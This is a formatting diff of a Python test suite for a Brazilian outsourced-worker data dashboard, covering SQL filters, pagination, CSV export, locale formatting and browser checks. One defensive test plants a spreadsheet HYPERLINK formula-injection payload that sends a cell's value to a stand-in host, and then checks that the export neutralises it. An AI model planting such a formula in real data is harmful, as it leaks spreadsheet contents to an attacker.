@@ -41,8 +41,9 @@ def filled(settings, portal):
     conn = psycopg2.connect(**settings.postgres_dsn())
     conn.autocommit = True
     with conn.cursor() as cursor:
-        cursor.execute("TRUNCATE raw.terceirizados, raw.terceirizados_quarentena, raw.capturas, logs.registros, "
-                       "logs.execucoes")
+        cursor.execute(
+            "TRUNCATE raw.terceirizados, raw.terceirizados_quarentena, raw.capturas, logs.registros, logs.execucoes"
+        )
     portal.faults.clear()
     assert run_flow(capture_flow, url=portal.page_url)[0].is_successful()
     assert run_flow(materialize_flow)[0].is_successful()
@@ -72,14 +73,30 @@ def test_brazilian_formats():
 
 def test_filters_and_sorting_are_bound_and_validated():
     columns = {"nome": Column("nome", "text", None), "valor": Column("valor", "numeric", None)}
-    where, params = filter_sql({"nome": {"filterType": "text", "type": "contains", "filter": "50%_x"},
-                                "valor": {"filterType": "number", "type": "greaterThan", "filter": 10}},
-                               columns, QUOTE)
+    where, params = filter_sql(
+        {
+            "nome": {"filterType": "text", "type": "contains", "filter": "50%_x"},
+            "valor": {"filterType": "number", "type": "greaterThan", "filter": 10},
+        },
+        columns,
+        QUOTE,
+    )
     assert where == ' WHERE CAST("nome" AS text) ILIKE :p0 AND "valor" > :p1'
     assert params == {"p0": "%50\\%\\_x%", "p1": 10}
-    where, params = filter_sql({"valor": {"filterType": "number", "operator": "OR", "conditions": [
-        {"filterType": "number", "type": "lessThan", "filter": 1},
-        {"filterType": "number", "type": "inRange", "filter": 5, "filterTo": 9}]}}, columns, QUOTE)
+    where, params = filter_sql(
+        {
+            "valor": {
+                "filterType": "number",
+                "operator": "OR",
+                "conditions": [
+                    {"filterType": "number", "type": "lessThan", "filter": 1},
+                    {"filterType": "number", "type": "inRange", "filter": 5, "filterTo": 9},
+                ],
+            }
+        },
+        columns,
+        QUOTE,
+    )
     assert where == ' WHERE ("valor" < :p0 OR "valor" BETWEEN :p1 AND :p1b)' and params == {"p0": 1, "p1": 5, "p1b": 9}
     assert order_sql([{"colId": "valor", "sort": "desc"}], columns, QUOTE) == ' ORDER BY "valor" DESC NULLS LAST'
     with pytest.raises(UnknownTableError):
@@ -91,18 +108,31 @@ def test_filters_and_sorting_are_bound_and_validated():
 def test_pages_come_from_the_server_with_filters_sorting_and_counts(filled, repo):
     expected = filled["portal"].portal.expectations
     total = sum(e.loaded_rows for e in expected.values())
-    rows, count = repo.page("staging", "historic_transformed", 0, 10, [{"colId": "valor_custo_mensal", "sort": "desc"}],
-                            None)
+    rows, count = repo.page(
+        "staging", "historic_transformed", 0, 10, [{"colId": "valor_custo_mensal", "sort": "desc"}], None
+    )
     assert count == total and len(rows) == 10
     costs = [r["valor_custo_mensal"] for r in rows]
     assert costs == sorted(costs, reverse=True)
     [(top_cost,)] = query(filled["conn"], "SELECT max(valor_custo_mensal)::float FROM staging.historic_transformed")
     assert costs[0] == top_cost
-    rows, count = repo.page("staging", "historic_transformed", 100, 200, None,
-                            {"ano": {"filterType": "number", "type": "equals", "filter": 2022}})
+    rows, count = repo.page(
+        "staging",
+        "historic_transformed",
+        100,
+        200,
+        None,
+        {"ano": {"filterType": "number", "type": "equals", "filter": 2022}},
+    )
     assert count == expected["2022-05"].loaded_rows and rows == []  # offset past the filtered rows
-    _, count = repo.page("staging", "historic_transformed", 0, 100, None,
-                         {"razao_social_empresa": {"filterType": "text", "type": "contains", "filter": "filial df"}})
+    _, count = repo.page(
+        "staging",
+        "historic_transformed",
+        0,
+        100,
+        None,
+        {"razao_social_empresa": {"filterType": "text", "type": "contains", "filter": "filial df"}},
+    )
     assert count == 4  # one repaired row per CSV period
     response, href = views.rows_response(repo, "raw.terceirizados_quarentena", {"startRow": 0, "endRow": 100})
     assert response["rowCount"] == sum(len(e.quarantined_lines) for e in expected.values())
@@ -129,8 +159,11 @@ def test_sessions_are_read_only(filled, repo):
 def test_export_streams_the_filtered_rows(filled, settings, repo):
     app = create_app(settings, repo)
     client = app.server.test_client()
-    href = views.export_href("staging.historic_transformed", [{"colId": "id_terceirizado", "sort": "asc"}],
-                             {"ano": {"filterType": "number", "type": "equals", "filter": 2019}})
+    href = views.export_href(
+        "staging.historic_transformed",
+        [{"colId": "id_terceirizado", "sort": "asc"}],
+        {"ano": {"filterType": "number", "type": "equals", "filter": 2019}},
+    )
     response = client.get(href)
     assert response.status_code == 200 and response.mimetype == "text/csv"
     rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
@@ -146,15 +179,25 @@ def test_export_neutralises_formulas_and_keeps_negative_amounts(filled, settings
     numeric amount as the number it is."""
     conn = filled["conn"]
     formula = '=HYPERLINK("http://exemplo.invalido/roubo?c="&B2,"Ver detalhes")'
-    [(worker, name, cost)] = query(conn, "SELECT id_terceirizado, nome_orgao, valor_custo_mensal "
-                                         "FROM staging.transformed ORDER BY id_terceirizado LIMIT 1")
+    [(worker, name, cost)] = query(
+        conn,
+        "SELECT id_terceirizado, nome_orgao, valor_custo_mensal "
+        "FROM staging.transformed ORDER BY id_terceirizado LIMIT 1",
+    )
     with conn.cursor() as cursor:
-        cursor.execute("UPDATE staging.transformed SET nome_orgao = %s, valor_custo_mensal = -12.5 "
-                       "WHERE id_terceirizado = %s", (formula, worker))
+        cursor.execute(
+            "UPDATE staging.transformed SET nome_orgao = %s, valor_custo_mensal = -12.5 WHERE id_terceirizado = %s",
+            (formula, worker),
+        )
     try:
         client = create_app(settings, repo).server.test_client()
-        response = client.get(views.export_href("staging.transformed", None, {
-            "id_terceirizado": {"filterType": "text", "type": "equals", "filter": str(worker)}}))
+        response = client.get(
+            views.export_href(
+                "staging.transformed",
+                None,
+                {"id_terceirizado": {"filterType": "text", "type": "equals", "filter": str(worker)}},
+            )
+        )
         assert response.status_code == 200
         header, row = list(csv.reader(io.StringIO(response.get_data(as_text=True), newline="")))
         cells = dict(zip(header, row))
@@ -163,8 +206,10 @@ def test_export_neutralises_formulas_and_keeps_negative_amounts(filled, settings
         assert cells["ano"] == "2024" and cells["id_terceirizado"] == str(worker)
     finally:
         with conn.cursor() as cursor:
-            cursor.execute("UPDATE staging.transformed SET nome_orgao = %s, valor_custo_mensal = %s "
-                           "WHERE id_terceirizado = %s", (name, cost, worker))
+            cursor.execute(
+                "UPDATE staging.transformed SET nome_orgao = %s, valor_custo_mensal = %s WHERE id_terceirizado = %s",
+                (name, cost, worker),
+            )
 
 
 def test_runs_and_logs_views(filled, repo):
@@ -188,8 +233,9 @@ def test_charts_use_brazilian_money_format(filled, repo):
     source = repo.chart_source()
     assert source == "staging.historic_transformed"
     totals = repo.totals_by_period(source)
-    assert totals["terceirizados"].tolist() == [e.loaded_rows for _, e in sorted(
-        filled["portal"].portal.expectations.items())]
+    assert totals["terceirizados"].tolist() == [
+        e.loaded_rows for _, e in sorted(filled["portal"].portal.expectations.items())
+    ]
     figure = views.totals_figure(totals)
     assert figure.layout.separators == ",." and figure.layout.yaxis2.tickprefix == "R$ "
     assert figure.data[1].customdata[0].startswith("R$ ") and "," in figure.data[1].customdata[0]
@@ -241,8 +287,15 @@ def test_database_down_banner_and_recovery(filled, settings):
 # -- end to end in headless Chromium ------------------------------------------------------
 
 CHROMIUM = "/usr/bin/chromium"
-CHROMIUM_ARGS = ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
-                 "--disable-component-update", "--disable-sync"]
+CHROMIUM_ARGS = [
+    "--no-sandbox",
+    "--disable-gpu",
+    "--disable-quic",
+    "--no-first-run",
+    "--disable-background-networking",
+    "--disable-component-update",
+    "--disable-sync",
+]
 
 
 @pytest.fixture(scope="module")
@@ -280,8 +333,10 @@ def test_browser_shows_every_page(filled, served, browser):
     page.goto(served + "/tabelas")
     page.wait_for_selector(".data-grid .ag-row")
     assert "ano (integer)" in page.inner_text(".data-grid .ag-header")
-    assert page.inner_text(".data-grid .ag-paging-row-summary-panel") == \
-        f"1 a {expected['2024-05'].loaded_rows} de {expected['2024-05'].loaded_rows}"
+    assert (
+        page.inner_text(".data-grid .ag-paging-row-summary-panel")
+        == f"1 a {expected['2024-05'].loaded_rows} de {expected['2024-05'].loaded_rows}"
+    )
     assert "Código SIAFI da unidade gestora" in page.inner_text("#dictionary")
     screenshot(page, "resultados_tabelas.png")
 
@@ -334,6 +389,7 @@ def test_browser_empty_state(served, browser, filled):
 
 # -- stable pages, counts and charts ------------------------------------------------------
 
+
 def pages_of(repo, table, sort_model, size=70):
     rows, total = repo.page("staging", table, 0, size, sort_model, None)
     for start in range(size, total, size):
@@ -354,14 +410,18 @@ def test_pages_without_a_sort_follow_the_table_key(filled, repo):
     assert got == expected and len(got) == sum(e.loaded_rows for e in filled["portal"].portal.expectations.values())
 
     sort = [{"colId": "nm_escolaridade", "sort": "desc"}]  # a handful of values over ~300 rows
-    expected = query(conn, "SELECT periodo::text, linha_origem FROM staging.historic_raw "
-                           "ORDER BY nm_escolaridade DESC NULLS LAST, periodo, linha_origem")
+    expected = query(
+        conn,
+        "SELECT periodo::text, linha_origem FROM staging.historic_raw "
+        "ORDER BY nm_escolaridade DESC NULLS LAST, periodo, linha_origem",
+    )
     got = [(r["periodo"], r["linha_origem"]) for r in pages_of(repo, "historic_raw", sort)]
     assert got == expected and len(set(got)) == len(got)
 
     columns = {name: Column(name, "text", None) for name in ("a", "b", "c")}
-    assert order_sql([{"colId": "b", "sort": "desc"}], columns, QUOTE, ("a", "b")) == \
-        ' ORDER BY "b" DESC NULLS LAST, "a"'
+    assert (
+        order_sql([{"colId": "b", "sort": "desc"}], columns, QUOTE, ("a", "b")) == ' ORDER BY "b" DESC NULLS LAST, "a"'
+    )
     assert order_sql(None, columns, QUOTE, ("a", "c")) == ' ORDER BY "a", "c"'
 
 
@@ -420,8 +480,10 @@ def serve(app):
 
 
 def wait_text(page, selector, text):
-    page.wait_for_function("([s, t]) => { const e = document.querySelector(s); return e && e.innerText.includes(t); }",
-                           arg=[selector, text])
+    page.wait_for_function(
+        "([s, t]) => { const e = document.querySelector(s); return e && e.innerText.includes(t); }",
+        arg=[selector, text],
+    )
 
 
 def choose(page, dropdown, option):
@@ -430,22 +492,31 @@ def choose(page, dropdown, option):
 
 
 def summary_is(page, text):
-    page.wait_for_function("([t]) => { const p = document.querySelector('.data-grid .ag-paging-row-summary-panel');"
-                           " return p && p.innerText === t; }", arg=[text])
+    page.wait_for_function(
+        "([t]) => { const p = document.querySelector('.data-grid .ag-paging-row-summary-panel');"
+        " return p && p.innerText === t; }",
+        arg=[text],
+    )
 
 
 def test_browser_grid_texts_and_numbers_are_brazilian(filled, served, browser):
     conn = filled["conn"]
     extra = 1234
     with conn.cursor() as cursor:
-        cursor.execute("""INSERT INTO raw.terceirizados_quarentena (periodo, arquivo_origem, url_origem, sha256_arquivo,
+        cursor.execute(
+            """INSERT INTO raw.terceirizados_quarentena (periodo, arquivo_origem, url_origem, sha256_arquivo,
                               linha_origem, motivo, linha_bruta, capturado_em)
                           SELECT '1990-01-01', 'a.csv', 'http://x', 'abc', n, 'teste de paginação', 'x', now()
-                          FROM generate_series(1, %s) AS n""", (extra,))
+                          FROM generate_series(1, %s) AS n""",
+            (extra,),
+        )
     try:
         [(quarantined,)] = query(conn, "SELECT count(*) FROM raw.terceirizados_quarentena")
-        [(worker, cost)] = query(conn, "SELECT id_terceirizado, valor_custo_mensal FROM staging.transformed "
-                                       "ORDER BY ano, mes, id_terceirizado LIMIT 1")
+        [(worker, cost)] = query(
+            conn,
+            "SELECT id_terceirizado, valor_custo_mensal FROM staging.transformed "
+            "ORDER BY ano, mes, id_terceirizado LIMIT 1",
+        )
         page = browser.new_page(viewport={"width": 1400, "height": 1000})
         page.goto(served + "/tabelas")
         page.wait_for_selector(".data-grid .ag-row")
@@ -460,8 +531,10 @@ def test_browser_grid_texts_and_numbers_are_brazilian(filled, served, browser):
         choose(page, "#table-select", "Quarentena (raw.terceirizados_quarentena)")
         summary_is(page, f"1 a 100 de {integer(quarantined)}")
         assert quarantined > 1000 and "." in integer(quarantined)
-        assert page.inner_text(".data-grid .ag-paging-description") == \
-            f"Página 1 de {integer(math.ceil(quarantined / 100))}"
+        assert (
+            page.inner_text(".data-grid .ag-paging-description")
+            == f"Página 1 de {integer(math.ceil(quarantined / 100))}"
+        )
         page.hover(".data-grid .ag-header-cell[col-id='motivo']")
         page.click(".data-grid .ag-header-cell[col-id='motivo'] .ag-header-cell-menu-button")
         page.wait_for_selector(".ag-filter")
@@ -477,17 +550,23 @@ def test_browser_grid_texts_and_numbers_are_brazilian(filled, served, browser):
 
 def cells(page, grid, column):
     """(text, whole text visible) of the column's rendered cells."""
-    return page.evaluate("""([grid, column]) => [...document.querySelectorAll(
+    return page.evaluate(
+        """([grid, column]) => [...document.querySelectorAll(
         `${grid} .ag-center-cols-container .ag-cell[col-id="${column}"]`)].map(c =>
-        [c.innerText, c.scrollWidth <= c.clientWidth + 1 && c.scrollHeight <= c.clientHeight + 2])""", [grid, column])
+        [c.innerText, c.scrollWidth <= c.clientWidth + 1 && c.scrollHeight <= c.clientHeight + 2])""",
+        [grid, column],
+    )
 
 
 def cut_texts(page, grid, skip=()):
     """Headers and cells of a grid whose text does not fit (ellipsis), but the ``skip`` columns."""
-    return page.evaluate("""([grid, skip]) => [...document.querySelectorAll(
+    return page.evaluate(
+        """([grid, skip]) => [...document.querySelectorAll(
         `${grid} .ag-header-cell-text, ${grid} .ag-cell`)]
         .filter(e => !skip.includes(e.getAttribute('col-id') || e.closest('[col-id]').getAttribute('col-id')))
-        .filter(e => e.scrollWidth > e.clientWidth + 1).map(e => e.innerText)""", [grid, list(skip)])
+        .filter(e => e.scrollWidth > e.clientWidth + 1).map(e => e.innerText)""",
+        [grid, list(skip)],
+    )
 
 
 def test_browser_logs_and_runs_show_whole_texts(filled, served, browser):
@@ -616,6 +695,7 @@ def test_graphs_and_grids_carry_the_portuguese_locale():
 
 # -- dbt documentation ----------------------------------------------------------------------
 
+
 def test_docs_before_generation_name_the_command(settings, tmp_path):
     client = create_app(dataclasses.replace(settings, data_dir=tmp_path)).server.test_client()
     redirect = client.get("/docs")
@@ -636,9 +716,13 @@ def test_browser_shows_the_dbt_docs(filled, settings, served, browser):
     while node:
         chain.append(node)
         node = next((p for p in manifest["parent_map"][node] if p.startswith(("model.", "source."))), None)
-    assert chain == ["model.terceirizados.historic_transformed", "model.terceirizados.historic_renamed",
-                     "model.terceirizados.historic_cleaned", "model.terceirizados.historic_raw",
-                     "source.terceirizados.raw.terceirizados"]
+    assert chain == [
+        "model.terceirizados.historic_transformed",
+        "model.terceirizados.historic_renamed",
+        "model.terceirizados.historic_cleaned",
+        "model.terceirizados.historic_raw",
+        "source.terceirizados.raw.terceirizados",
+    ]
 
     page = browser.new_page(viewport={"width": 1400, "height": 1000})
     page.goto(served + "/tabelas")
